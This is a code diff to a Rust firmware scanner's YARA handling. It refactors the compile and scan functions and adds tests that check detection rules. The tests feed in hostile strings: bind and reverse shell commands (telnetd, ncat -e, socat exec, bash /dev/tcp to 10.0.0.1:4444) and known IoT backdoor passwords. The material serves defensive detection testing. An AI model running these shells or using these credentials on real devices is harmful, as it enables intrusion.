@@ -124,7 +124,7 @@ pub fn compile(
     catalog: &Catalog,
 ) -> Result<Compiled, (String, String)> {
     if sources.is_empty() {
-        return check_fed(&Compiled::default(), rules);
+        return check_fed(Compiled::default(), rules);
     }
     let mut compiler = Compiler::new();
     compiler.colorize_errors(false).enable_includes(false);
@@ -188,11 +188,11 @@ pub fn compile(
         rules: Some(Arc::new(built)),
         targets,
     };
-    check_fed(&out, rules)
+    check_fed(out, rules)
 }
 
 /// Every rule declaring the YARA engine is fed by at least one YARA rule.
-fn check_fed(c: &Compiled, rules: &BTreeMap<String, Rule>) -> Result<Compiled, (String, String)> {
+fn check_fed(c: Compiled, rules: &BTreeMap<String, Rule>) -> Result<Compiled, (String, String)> {
     let fed = c.fed_rules();
     for r in rules
         .values()
@@ -205,7 +205,7 @@ fn check_fed(c: &Compiled, rules: &BTreeMap<String, Rule>) -> Result<Compiled, (
             ));
         }
     }
-    Ok(c.clone())
+    Ok(c)
 }
 
 fn custom_target(
@@ -355,10 +355,14 @@ pub fn scan(
                 continue;
             }
         };
+        let matching: Vec<_> = results.matching_rules().collect();
+        if matching.is_empty() {
+            continue;
+        }
         let text = is_text(f.data);
         let line_at =
             |off: usize| text.then(|| memchr::memchr_iter(b'\n', &f.data[..off.min(f.data.len())]).count() + 1);
-        for r in results.matching_rules() {
+        for r in matching {
             let key = (r.namespace().to_string(), r.identifier().to_string());
             let Some(t) = compiled.targets.get(&key) else {
                 continue;
@@ -505,6 +509,63 @@ mod tests {
             "rule x { meta: controls = \"NO-SUCH\" condition: true }",
         )]);
         assert!(e.contains("custom/lab.yar") && e.contains("NO-SUCH"), "{e}");
+    }
+
+    /// Which patterns of fwcert's own YARA rules match `strings` as the
+    /// data of an ELF file.
+    fn patterns_matching(strings: &str) -> Vec<String> {
+        let rs = RuleSet::embedded().unwrap();
+        let rules = rs.yara.rules.clone().unwrap();
+        let mut scanner = Scanner::new(&rules);
+        let data = [b"\x7fELF\x01\x01\x01\0".as_slice(), strings.as_bytes(), b"\0"].concat();
+        let results = scanner.scan(&data).unwrap();
+        let mut out: Vec<String> = results
+            .matching_rules()
+            .flat_map(|r| {
+                r.patterns()
+                    .filter(|p| p.matches().next().is_some())
+                    .map(|p| p.identifier().to_string())
+                    .collect::<Vec<_>>()
+            })
+            .collect();
+        out.sort();
+        out
+    }
+
+    #[test]
+    fn network_shell_patterns() {
+        for (s, want) in [
+            ("/usr/sbin/utelnetd -p 2323 -l /bin/sh", "$telnetd"),
+            ("telnetd -l/bin/ash", "$telnetd"),
+            ("busybox telnetd -l sh &", "$telnetd"),
+            ("ncat -lvp 4444 -e /bin/bash", "$netcat"),
+            ("netcat -e sh 10.0.0.1 9", "$netcat"),
+            ("socat tcp-l:2323,reuseaddr,fork exec:/bin/sh,pty", "$socat"),
+            ("socat TCP-LISTEN:9 exec:'sh'", "$socat"),
+            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "$dev_tcp"),
+        ] {
+            assert_eq!(patterns_matching(s), vec![want.to_string()], "{s}");
+        }
+        for s in [
+            "\t-l LOGIN\tExec LOGIN on connect",
+            "telnetd -l /bin/login",
+            "telnetd -l /bin/shadowd",
+            "sync -e /bin/sh",
+            "\t-e PROG\tRun PROG after connect",
+            "sh -i",
+            "/bin/sh -c reboot",
+        ] {
+            assert!(patterns_matching(s).is_empty(), "{s}: {:?}", patterns_matching(s));
+        }
+    }
+
+    #[test]
+    fn backdoor_password_patterns() {
+        assert_eq!(patterns_matching("root\0klv1234"), vec!["$klv1234".to_string()]);
+        assert_eq!(patterns_matching("zlxx."), vec!["$zlxx".to_string()]);
+        for s in ["zlxx", "xklv123", "klv123 ", "Xc3511", "xc35110"] {
+            assert!(patterns_matching(s).is_empty(), "{s}");
+        }
     }
 
     #[test]
